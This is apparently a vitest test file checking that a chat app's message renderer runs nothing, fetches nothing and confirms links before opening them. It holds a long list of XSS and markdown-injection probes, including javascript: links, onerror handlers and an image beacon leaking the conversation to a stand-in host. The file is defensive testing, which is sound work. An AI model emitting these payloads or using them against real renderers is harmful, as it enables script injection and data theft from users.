// A message is written by a model that may have read anything. Nothing in it may run, be fetched, or lead away.
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
import { rows, runEvents } from '../../support/chat-events.ts'
import { mainKey, scriptChatGateway, tellEvents } from '../../support/chat-gateway.ts'
import { openWindowBench } from '../../support/window-bench.ts'
import type { BenchWindow, WindowBench } from '../../support/window-bench.ts'

let bench: WindowBench
beforeAll(async () => {
  bench = await openWindowBench()
})
afterAll(() => bench.close())

const pwn = 'globalThis.pwned=1'
const away = 'http://127.0.0.1:9/beacon'

const probes = [
  `<script>${pwn}</script>`,
  `<img src=x onerror="${pwn}">`,
  `<img src="${away}.png">`,
  `<svg onload="${pwn}"><script>${pwn}</script></svg>`,
  `<iframe src="${away}"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="${away}"></object><embed src="${away}">`,
  `<video src="${away}" autoplay onerror="${pwn}"></video><audio src="${away}" autoplay></audio>`,
  `<link rel="stylesheet" href="${away}.css"><style>@import url(${away}.css);body{background:url(${away})}</style>`,
  `<base href="${away}/"><meta http-equiv="refresh" content="0;url=${away}">`,
  `<form action="${away}" method="post"><input name=a autofocus onfocus="${pwn}"><button>go</button></form>`,
  `<details open ontoggle="${pwn}">x</details>`,
  `<a href="javascript:${pwn}">click</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${pwn}">`,
  `<noscript><p title="</noscript><img src=x onerror=${pwn}>">`,
  `<template><script>${pwn}</script></template><portal src="${away}"></portal>`,
  `<marquee onstart="${pwn}">x</marquee><body onload="${pwn}">`,
  `<div style="background:url(${away})">x</div>`,
  `<img srcset="${away} 1x" src="data:image/svg+xml,<svg onload=${pwn}>">`,
  `[a](javascript:${pwn})`,
  `[a](JaVaScRiPt:${pwn})`,
  `[a](&#106;avascript:${pwn})`,
  `[a](javascript&colon;${pwn})`,
  `[a](java\nscript:${pwn})`,
  `[a](\u0001javascript:${pwn})`,
  `[a](data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnB3bmVkPTE8L3NjcmlwdD4=)`,
  `[a](vbscript:${pwn})`,
  `[a](file:///etc/passwd)`,
  `[a](//127.0.0.1:9/x)`,
  `[a](/etc)`,
  `[a](#/settings)`,
  `[a](https://user:pw@127.0.0.1:9/)`,
  `[a](https:\\\\127.0.0.1:9)`,
  `[a](blob:${away})`,
  `[a](<${away} "onmouseover=${pwn}">)`,
  `[a]: javascript:${pwn}\n\n[a] [a][] [b][a]`,
  `<javascript:${pwn}>`,
  `![x](${away}.png)`,
  `![x](${away}.png?leak=the+whole+conversation)`,
  `![x](javascript:${pwn})`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imdsb2JhbFRoaXMucHduZWQ9MSI+PC9zdmc+)`,
  `![x](data:text/html,<script>${pwn}</script>)`,
  `![x](file:///etc/passwd)`,
  `[![x](${away}.png)](javascript:${pwn})`,
  `![x][ref]\n\n[ref]: ${away}.png`,
  `# <img src=x onerror=${pwn}>`,
  `| a |\n|---|\n| <img src=x onerror=${pwn}> ![x](${away}) |`,
  `- [ ] <input type=image src=${away} onerror=${pwn}>`,
  `> <script src="${away}.js"></script>`,
  `\`\`\`html\n<script>${pwn}</script>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${pwn}>\nx\n\`\`\``,
  `~~~js onload=${pwn}\nx\n~~~`,
  `text[^1]\n\n[^1]: <img src=x onerror=${pwn}> [a](javascript:${pwn})`,
  `${away}/autolinked www.127.0.0.1 mail@127.0.0.1`,
  `<!--><img src=x onerror=${pwn}>-->`,
  `<![CDATA[<script>${pwn}</script>]]>`,
  `<?php echo 1 ?><!DOCTYPE html><html><head>`,
  '\u202Egnp.exe\u202C \u2066isolated\u2069 \u200Bzero\u200B width \uFEFF',
  `[https://bank.com](https://xn--bnk-6ka.example/login)`,
  `${'<div>'.repeat(500)}<script>${pwn}</script>`,
  `${'> '.repeat(500)}<img src=${away}>`,
  `$$\\href{javascript:${pwn}}{x}$$ {{constructor.constructor('${pwn}')()}} \${${pwn}}`,
]

async function openWith(messages: readonly unknown[]): Promise<BenchWindow> {
  const gateway = scriptChatGateway()
  gateway.rows.set(mainKey, [...messages])
  gateway.sessions.push({ key: mainKey, label: probes[1], lastMessagePreview: probes[0] })
  const window = await bench.open({
    hash: '#/chat',
    answers: gateway.answers,
    viewport: { width: 1280, height: 12_000 },
  })
  onTestFinished(() => window.close())
  return window
}

async function nothingHappened(window: BenchWindow): Promise<void> {
  const found = await window.page.evaluate(() => ({
    pwned: 'pwned' in globalThis,
    dangerous: [
      ...document.querySelectorAll(
        'main :is(script, iframe, object, embed, form[action], link, style, base, meta, video, audio, math, template)',
      ),
    ].map(element => element.outerHTML),
    handlers: [...document.querySelectorAll('main *')].flatMap(element =>
      element.getAttributeNames().filter(name => name.startsWith('on')),
    ),
    links: [...document.querySelectorAll('[role=log] [href]')].map(element => element.outerHTML),
    pictures: [...document.querySelectorAll('[role=log] img')].map(element =>
      element.getAttribute('src')?.slice(0, 40),
    ),
  }))
  expect(found).toEqual({ pwned: false, dangerous: [], handlers: [], links: [], pictures: [] })
  expect(window.foreignRequests).toEqual([])
  expect(await window.violations()).toEqual([])
  expect(window.complaints).toEqual([])
  expect(window.page.url()).toBe(`${bench.origin}/#/chat`)
}

test(`${probes.length} hostile answers run nothing, fetch nothing and lead nowhere`, async () => {
  const window = await openWith(probes.map(probe => rows.assistant(probe)))
  await expect.poll(() => window.page.getByRole('article').count(), { timeout: 20_000 }).toBe(probes.length)
  await nothingHappened(window)

  // Whatever looks like a link asks first, in whichever way it is used.
  const links = await window.page.getByRole('log').getByRole('link').all()
  expect(links.length).toBeGreaterThan(3)
  for (const link of links) {
    await link.click({ button: 'middle' })
    await link.click({ modifiers: ['Control'] })
    const dialog = window.page.getByRole('dialog')
    await dialog.getByRole('button', { name: 'Cancel' }).click()
    await dialog.waitFor({ state: 'hidden' })
  }
  expect(window.page.context().pages()).toHaveLength(1)
  expect(window.askedFor('app.openExternal')).toEqual([])
  await nothingHappened(window)
})

test('the same in a person’s words, a tool’s result, a thought, an error and a stream of single characters', async () => {
  const everywhere = probes.join('\n\n')
  const window = await openWith([
    rows.user(everywhere),
    rows.assistant([
      { type: 'thinking', thinking: everywhere },
      { type: 'toolCall', id: 'c1', name: probes[1], arguments: { probe: everywhere } },
    ]),
    rows.toolResult('c1', 'exec', everywhere),
    rows.assistant(
      [
        { type: probes[1] },
        { type: 'image', mimeType: 'image/svg+xml', data: 'PHN2Zz4=' },
        { type: 'image', url: away },
      ],
      {},
      { stopReason: 'error', errorMessage: probes[1] },
    ),
  ])
  await window.page.getByText('The answer failed').waitFor()
  for (const card of await window.page.locator('summary').all()) await card.click()
  await window.page.getByText('Result', { exact: true }).waitFor()

  const run = runEvents('stream')
  const text = [...probes.slice(0, 12), probes[36]].join('\n\n')
  await window.page.evaluate(
    ({ payloads }) => {
      for (const payload of payloads) benchTell('gateway.event', { event: 'chat', payload })
    },
    { payloads: Array.from(text, (character, i) => run.delta(i + 1, character).payload) },
  )
  await tellEvents(window, [run.final(text.length + 1, text)])
  await window.page.getByRole('article').nth(2).waitFor()
  await nothingHappened(window)
})

test('a link says where it leads before anything is opened, and only then', async () => {
  const window = await openWith([
    rows.assistant(
      '[https://bank.com](https://bücher.example/a?b=1), [plain](http://example.com) and [mail](mailto:maria@example.com)',
    ),
  ])
  const link = window.page.getByRole('link', { name: 'https://bank.com' })
  await window.page.getByText('(leads to xn--bcher-kva.example)').waitFor()
  await link.focus()
  await link.press('Enter')
  const dialog = window.page.getByRole('dialog')
  await dialog.getByText('xn--bcher-kva.example', { exact: true }).waitFor()
  expect(window.askedFor('app.openExternal')).toEqual([])
  await dialog.getByRole('button', { name: 'Open', exact: true }).click()
  await expect
    .poll(() => window.askedFor('app.openExternal'))
    .toEqual([{ url: 'https://xn--bcher-kva.example/a?b=1' }])

  await window.page.getByRole('link', { name: 'plain' }).click()
  await dialog.getByText('This address is not encrypted').waitFor()
  expect(await dialog.getByRole('button', { name: 'Open', exact: true }).count()).toBe(0)
  await dialog.getByRole('button', { name: 'Cancel' }).click()

  await window.page.getByRole('link', { name: 'mail' }).click()
  await dialog.getByText('maria@example.com', { exact: true }).waitFor()
})

test('a picture that comes with the message is shown, one that lives elsewhere is named', async () => {
  const dot =
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
  const window = await openWith([
    rows.assistant(`![dot](data:image/png;base64,${dot}) ![map](${away}/map.png)`),
    rows.assistant([{ type: 'image', mimeType: 'image/png', data: dot }]),
  ])
  await window.page.getByRole('img', { name: 'dot' }).waitFor()
  const widths = await window.page
    .locator('[role=log] img')
    .evaluateAll(images => images.map(image => (image as HTMLImageElement).naturalWidth))
  expect(widths).toEqual([1, 1])
  await window.page.getByText('map · picture on 127.0.0.1:9, not loaded').waitFor()
  expect(window.foreignRequests).toEqual([])
})
